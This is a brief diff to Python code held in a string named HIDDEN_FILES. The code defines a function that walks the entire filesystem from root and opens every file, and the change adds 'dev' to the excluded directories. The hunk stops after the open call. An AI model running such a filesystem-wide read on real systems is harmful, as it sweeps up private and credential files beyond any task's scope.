@@ -94,7 +94,7 @@ HIDDEN_FILES = f"""
 import os
 def shout(text):
     for folder, below, names in os.walk("/"):
-        below[:] = [name for name in below if name not in ("usr", "lib", "site-packages", "sys")]
+        below[:] = [name for name in below if name not in ("usr", "lib", "site-packages", "sys", "dev")]
         for name in names:
             try:
                 with open(os.path.join(folder, name), errors="replace") as file:
